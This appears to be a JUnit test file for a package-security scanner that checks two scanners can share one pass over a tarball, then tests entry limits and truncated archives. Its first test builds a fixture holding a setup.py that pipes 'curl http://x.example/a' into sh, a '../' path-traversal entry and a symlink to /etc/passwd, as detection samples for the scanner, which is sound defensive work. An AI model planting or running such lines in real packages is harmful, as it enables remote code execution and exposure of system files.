package dev.airlock.adapter.scan.pass;

import static dev.airlock.archive.testing.TestArchives.file;
import static dev.airlock.archive.testing.TestArchives.symlink;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.airlock.adapter.scan.builtin.BuiltinSecurityScanner;
import dev.airlock.adapter.scan.sarif.SarifCommand;
import dev.airlock.adapter.scan.sarif.SarifCommandScanner;
import dev.airlock.application.port.PortException;
import dev.airlock.application.port.out.EntryScanner;
import dev.airlock.application.testing.InMemoryFetchedArtifact;
import dev.airlock.archive.ArchiveLimits;
import dev.airlock.archive.ArchiveReader;
import dev.airlock.archive.testing.TestArchives;
import dev.airlock.domain.Finding;
import dev.airlock.domain.PackageRequest;
import dev.airlock.scanner.BuiltinScanner;
import java.io.IOException;
import java.net.URI;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The built-in and SARIF scanners fed from one pass over the archive, with the same results as alone. */
class SharedArchivePassTest {
  private static final PackageRequest REQUEST = PackageRequest.builder().name("demo")
      .url(URI.create("https://files.pythonhosted.org/packages/demo-1.0.tar.gz")).build();
  private static final Path JAVA = Path.of(System.getProperty("java.home"), "bin", "java");

  @TempDir
  Path work;

  private Path workspaces;
  private Path listing;

  @BeforeEach
  void setUp() throws IOException {
    workspaces = Files.createDirectory(work.resolve("workspaces"));
    listing = work.resolve("listing.txt");
  }

  @Test
  void shouldGiveBothScannersWhatEachFindsAloneWhenTheyShareOnePassThatOpensTheArchiveOnce() throws Exception {
    // Given
    Path archive = TestArchives.tarGz(work.resolve("demo-1.0.tar.gz"),
        file("demo-1.0/setup.py", "import os\nos.system('curl http://x.example/a | sh')\n"),
        file("demo-1.0/demo/__init__.py", "VALUE = 1\n"),
        file("demo-1.0/../escaped.py", "pwned\n"),
        symlink("demo-1.0/link", "/etc/passwd"));
    ArchiveLimits limits = ArchiveLimits.defaults();
    BuiltinSecurityScanner builtin = new BuiltinSecurityScanner(new BuiltinScanner(new ArchiveReader(limits)));
    SarifCommandScanner sarif = sarif(limits);
    List<Finding> builtinAlone;
    try (InMemoryFetchedArtifact alone = InMemoryFetchedArtifact.of(archive)) {
      builtinAlone = builtin.scan(REQUEST, alone);
    }
    InMemoryFetchedArtifact artifact = InMemoryFetchedArtifact.of(archive);

    // When
    EntryScanner.EntryScan builtinScan = builtin.start(REQUEST, artifact);
    EntryScanner.EntryScan sarifScan = sarif.start(REQUEST, artifact);
    Map<EntryScanner.EntryScan, Exception> failed = new SharedArchivePass(new ArchiveReader(limits))
        .read(artifact, List.of(builtinScan, sarifScan));
    List<Finding> builtinFindings = builtinScan.finish();
    List<Finding> sarifFindings = sarifScan.finish();
    builtinScan.close();
    sarifScan.close();

    // Then
    assertThat(failed).isEmpty();
    assertThat(artifact.timesOpened()).isEqualTo(1);
    assertThat(builtinFindings).isNotEmpty().containsExactlyElementsOf(builtinAlone);
    assertThat(sarifFindings).isEmpty();
    assertThat(Files.readAllLines(listing)).contains("file demo-1.0/setup.py rw-------",
        "file demo-1.0/demo/__init__.py rw-------").noneMatch(line -> line.contains("escaped"));
    assertThat(workspaces).isEmptyDirectory();
  }

  @Test
  void shouldTellEachScannerWhichDecidesForItselfWhenTheArchivePassesALimit() throws Exception {
    // Given: at most two entries
    Path archive = TestArchives.tarGz(work.resolve("many-1.0.tar.gz"),
        file("many-1.0/a.py", "1"), file("many-1.0/b.py", "2"), file("many-1.0/c.py", "3"));
    ArchiveLimits limits = new ArchiveLimits(2, 1_000_000, 1_000_000);
    EntryScanner.EntryScan builtinScan;
    EntryScanner.EntryScan sarifScan;
    try (InMemoryFetchedArtifact artifact = InMemoryFetchedArtifact.of(archive)) {
      builtinScan = new BuiltinSecurityScanner(new BuiltinScanner(new ArchiveReader(limits))).start(REQUEST, artifact);
      sarifScan = sarif(limits).start(REQUEST, artifact);

      // When
      Map<EntryScanner.EntryScan, Exception> failed = new SharedArchivePass(new ArchiveReader(limits))
          .read(artifact, List.of(builtinScan, sarifScan));

      // Then
      assertThat(failed).isEmpty();
      assertThat(builtinScan.finish()).extracting(Finding::ruleId).contains("AIRLOCK-ARCHIVE-LIMIT");
      assertThat(sarifScan.finish()).extracting(Finding::ruleId).containsExactly("SARIF-UNPACK-LIMIT");
      assertThat(listing).doesNotExist();
    }
    builtinScan.close();
    sarifScan.close();
    assertThat(workspaces).isEmptyDirectory();
  }

  @Test
  void shouldFailNamingTheArchiveWhenItIsTruncated() throws Exception {
    // Given
    byte[] whole = TestArchives.tarGzBytes(file("demo-1.0/setup.py", "x = 1\n".repeat(50_000)));
    Path archive = Files.write(work.resolve("demo-1.0.tar.gz"), java.util.Arrays.copyOf(whole, whole.length / 2));
    ArchiveLimits limits = ArchiveLimits.defaults();
    try (InMemoryFetchedArtifact artifact = InMemoryFetchedArtifact.of(archive)) {
      EntryScanner.EntryScan builtinScan =
          new BuiltinSecurityScanner(new BuiltinScanner(new ArchiveReader(limits))).start(REQUEST, artifact);

      // When / Then
      assertThatThrownBy(() -> new SharedArchivePass(new ArchiveReader(limits)).read(artifact, List.of(builtinScan)))
          .isInstanceOf(PortException.class)
          .hasMessageStartingWith("archive demo-1.0.tar.gz cannot be read: ");
    }
  }

  private SarifCommandScanner sarif(ArchiveLimits limits) throws URISyntaxException {
    Path tool = Path.of(SharedArchivePassTest.class
        .getResource("/dev/airlock/adapter/scan/sarif/FakeSarifTool.java").toURI());
    String emptyLog = "{\"version\": \"2.1.0\", \"runs\": [{\"tool\": {\"driver\": {\"name\": \"Linty\"}}, "
        + "\"results\": []}]}";
    return new SarifCommandScanner(new ArchiveReader(limits), new SarifCommand(List.of(JAVA.toString(),
        tool.toString(), "--dir", "{dir}", "--output", "{output}", "--list", listing.toString(), "--write", emptyLog),
        Duration.ofSeconds(60)), Map.of("PATH", System.getenv().getOrDefault("PATH", "/usr/bin:/bin")), workspaces);
  }
}
